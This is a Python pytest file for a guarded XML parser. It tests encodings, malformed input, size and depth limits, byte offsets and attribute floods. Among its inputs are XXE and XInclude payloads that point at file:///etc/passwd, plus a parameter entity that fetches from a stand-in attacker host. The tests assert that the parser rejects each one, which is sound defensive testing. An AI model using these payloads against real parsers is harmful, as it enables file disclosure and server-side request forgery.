# SPDX-License-Identifier: Apache-2.0
"""The guarded reader of XML."""

from __future__ import annotations

import pytest

from cairn.standards.archives import ArchiveError, XmlLimits, parse_xml, walk_xml
from tests.standards.archives.guard import bounds


class _Names:
    """Collects what a visitor is told."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, int]] = []

    def start(self, tag: str, _attributes: dict[str, str], offset: int) -> None:
        self.seen.append((tag, offset))

    def text(self, data: str) -> None:
        """Texts are not collected."""

    def end(self, tag: str, offset: int) -> None:
        self.seen.append((f"/{tag}", offset))


def _code(data: bytes, **limits: int) -> str:
    with pytest.raises(ArchiveError) as caught:
        parse_xml(data, limits=XmlLimits(**limits))
    return caught.value.code


def test_a_document_becomes_a_tree() -> None:
    root = parse_xml(b'<?xml version="1.0"?><r xmlns="urn:n" a="1">t<b/>u</r>')
    assert (root.tag, root.attrib, root.text) == ("{urn:n}r", {"a": "1"}, "t")
    assert [(child.tag, child.tail) for child in root] == [("{urn:n}b", "u")]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_declared_encodings_are_understood(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><r>é</r>'
    assert parse_xml(text.encode(encoding)).text == "é"


@pytest.mark.parametrize(
    "data",
    [b"", b"<r>", b"<r></s>", b"plain", b"<r>\xff</r>", b'<?xml version="1.0" encoding="utf-7"?><r/>', b"<r/><r/>"],
)
def test_what_is_not_well_formed_is_refused(data: bytes) -> None:
    assert _code(data) == "malformed_xml"


@pytest.mark.parametrize(
    "doctype",
    [
        b"<!DOCTYPE r>",
        b'<!DOCTYPE r SYSTEM "file:///etc/passwd">',
        b'<!DOCTYPE r [<!ENTITY e "x">]>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]>',
    ],
)
def test_document_types_are_refused(doctype: bytes) -> None:
    assert _code(doctype + b"<r/>") == "dtd_not_allowed"


def test_a_bare_document_type_may_be_allowed_but_never_declarations() -> None:
    names = _Names()
    walk_xml(b'<!DOCTYPE r PUBLIC "-//X" "http://x.example/x.dtd"><r/>', names, bare_doctype=True)
    assert [name for name, _ in names.seen] == ["r", "/r"]
    for doctype in (b"<!DOCTYPE r []>", b'<!DOCTYPE r [<!ENTITY e "x">]>', b"<!DOCTYPE r [<!ELEMENT r ANY>]>"):
        with pytest.raises(ArchiveError) as caught:
            walk_xml(doctype + b"<r/>", _Names(), bare_doctype=True)
        assert caught.value.code == "dtd_not_allowed"


def test_an_entity_of_an_unread_document_type_is_not_expanded() -> None:
    doctype = b'<!DOCTYPE r SYSTEM "http://x.example/x.dtd">'
    with pytest.raises(ArchiveError) as caught:
        walk_xml(doctype + b"<r>&e;</r>", _Names(), bare_doctype=True)
    assert caught.value.code == "malformed_xml"


def test_nothing_is_included() -> None:
    include = b'<r><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></r>'
    assert _code(include) == "xinclude_not_allowed"


def test_the_limits_hold() -> None:
    assert _code(b"<r/>" + b" " * 10, size=10) == "too_large"
    assert _code(b"<a><b><c/></b></a>", depth=2) == "too_deep"
    assert _code(b"<a><b/><b/></a>", elements=2) == "too_many_elements"
    assert parse_xml(b"<a><b/></a>", limits=XmlLimits(size=11, depth=2, elements=2)).tag == "a"


def test_offsets_are_those_of_the_bytes() -> None:
    data = '<!-- é --><r><b k="é"></b></r>'.encode()
    names = _Names()
    walk_xml(data, names)
    assert names.seen == [
        ("r", data.index(b"<r>")),
        ("b", data.index(b"<b ")),
        ("/b", data.index(b"</b>")),
        ("/r", data.index(b"</r>")),
    ]


def test_a_flood_of_attributes_is_refused_before_it_is_read() -> None:
    flood = b"<r" + b"".join(b" a%d=''" % number for number in range(500_000)) + b"/>"
    with bounds():
        assert _code(flood) == "too_many_attributes"


def test_one_long_attribute_is_no_flood() -> None:
    long = b"<r a='" + b"x" * 2_000_000 + b"==' b=''/>"
    assert len(parse_xml(long).attrib["a"]) == 2_000_002
